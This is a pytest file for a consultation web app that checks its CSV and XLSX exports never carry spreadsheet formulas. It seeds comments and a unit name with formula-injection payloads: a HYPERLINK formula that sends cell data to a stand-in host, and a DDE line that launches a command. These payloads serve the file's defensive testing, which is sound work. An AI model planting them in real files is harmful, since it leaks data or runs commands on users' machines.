"""Every file we hand out, read back as a spreadsheet would: no cell is ever a formula.

A comment or a unit name such as ``=HYPERLINK("http://x/?"&N2,"Xem")`` comes out as text: XLSX
cells are written as strings or numbers, never formulas; CSV cells that a spreadsheet would read
as a formula (a start of ``=``, ``+``, ``-``, ``@``, tab or carriage return) get a ``'`` in front
(OWASP), bullets ("- Đề nghị …") included — a spreadsheet would otherwise show ``#NAME?``.
"""

import csv
import io
from typing import Any

import openpyxl
from fastapi.testclient import TestClient

from tests.conftest import World
from tests.factories import Campaign

EVIL = '=HYPERLINK("http://x/?"&N2,"Xem")'
CONTENTS = [
    EVIL,
    "+84 912 345 678 đề nghị liên hệ",
    "-1 là sai, đề nghị sửa",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "- Đề nghị bổ sung giải pháp chống sạt lở bờ biển.",
]


def _evil_unit(client: TestClient, world: World) -> int:
    resp = client.post(
        "/api/v1/units",
        headers=world.auth("admin_p"),
        json={
            "code": "EVIL-1",
            "name": EVIL,
            "level": "residential_area",
            "parent_id": world.units["C1"],
        },
    )
    assert resp.status_code == 201, resp.text
    return int(resp.json()["id"])


def _seed(client: TestClient, world: World, campaign: Campaign) -> int:
    unit = _evil_unit(client, world)
    for content in CONTENTS:
        body = campaign.comment(world, content=content)
        body["unit_id"] = unit
        resp = client.post("/api/v1/comments", headers=world.auth("secretary_p"), json=body)
        assert resp.status_code == 201, resp.text
    return unit


def _csv(resp: Any) -> list[list[str]]:
    assert resp.status_code == 200, resp.text
    return list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))


def _xlsx_cells(resp: Any) -> list[Any]:
    assert resp.status_code == 200, resp.text
    book = openpyxl.load_workbook(io.BytesIO(resp.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula(cells: list[Any]) -> list[Any]:
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return [c.value for c in cells]


def test_the_comments_export_never_holds_a_formula(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    _seed(client, world, campaign)
    who = world.auth("secretary_p")
    values = _no_formula(
        _xlsx_cells(client.get("/api/v1/comments/export", params={"format": "xlsx"}, headers=who))
    )
    for content in CONTENTS:
        assert content in values  # as text, unchanged
    assert EVIL in values  # the unit's name too

    cells = [c for row in _csv(client.get("/api/v1/comments/export", headers=who)) for c in row]
    for content in CONTENTS:
        assert content not in cells and "'" + content in cells
    assert "'" + EVIL in cells
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)


def test_the_stats_files_never_hold_a_formula(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    _seed(client, world, campaign)
    url = f"/api/v1/units/{world.units['C1']}/stats"
    who = world.auth("secretary_p")
    params = {"group_by": "child", "consultation_id": campaign.consultation_id}
    values = _no_formula(
        _xlsx_cells(client.get(url, params={**params, "format": "xlsx"}, headers=who))
    )
    assert EVIL in values
    cells = [
        c
        for row in _csv(client.get(url, params={**params, "format": "csv"}, headers=who))
        for c in row
    ]
    assert "'" + EVIL in cells and EVIL not in cells


def test_the_progress_file_never_holds_a_formula(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    _seed(client, world, campaign)
    resp = client.get(
        f"/api/v1/units/{world.units['C1']}/progress",
        params={"consultation_id": campaign.consultation_id, "format": "xlsx"},
        headers=world.auth("secretary_p"),
    )
    assert EVIL in _no_formula(_xlsx_cells(resp))
